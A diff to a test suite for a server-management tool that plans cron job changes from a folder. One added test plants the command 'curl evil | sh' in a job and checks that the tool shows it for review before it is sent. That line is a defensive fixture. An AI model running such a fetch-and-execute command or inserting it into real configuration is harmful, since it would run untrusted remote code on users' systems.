@@ -203,6 +203,18 @@ describe('a server in a folder', () => {
     assert.equal(answers.messages.at(-1), 'The folder matches the service.');
   });
 
+  it('is shown with its values before they are sent, whoever planned it', async () => {
+    await edit(await fileOf(101), { command: 'curl evil | sh' });
+    await run('serverManagement.planFromFolder', folder);
+    await run('serverManagement.applyPending', { id: 'pending', resourceStates: [] });
+    const [asked = '', ...others] = answers.questions;
+    assert.deepEqual(others, []);
+    assert.match(
+      asked,
+      /\nFrom a folder: Example Hosting › .*\n- "command": .*\n\+ "command": "curl evil \| sh"\n/,
+    );
+  });
+
   it('keeps a change that was edited after it was shown, and says so', async () => {
     await changeBehind(101, 'theirs');
     await run('serverManagement.planFromFolder');
@@ -210,7 +222,9 @@ describe('a server in a folder', () => {
     assert.ok(shown);
     const { reference, path } = shown;
     const edited = { path: ['command'], before: 'theirs', after: 'newer' };
-    await window.services.pending.changes.stage([{ reference, path, changes: [edited] }]);
+    await window.services.pending.changes.stage([
+      { reference, origin: 'folder', path, changes: [edited] },
+    ]);
     const file = await text(await fileOf(101));
     await takeTheirs(window.services, [shown]);
     assert.match(answers.messages.at(-1) ?? '', /was applied, edited or discarded in the meantime/);
@@ -232,7 +246,7 @@ describe('a server in a folder', () => {
     const reference: ResourceReference = { ...server, kind: 'cronJob', ids: [1, 101] };
     const { command } = await probe.call('GET', jobPath(101));
     const typed = { path: ['command'], before: command as string, after: 'typed here' };
-    await pending.stage([{ reference, changes: [typed] }]);
+    await pending.stage([{ reference, origin: 'person', changes: [typed] }]);
     const commands = (): unknown[] =>
       changes().map((each) => [each.operation, each.changes[0]?.after]);
     const file = await fileOf(101);
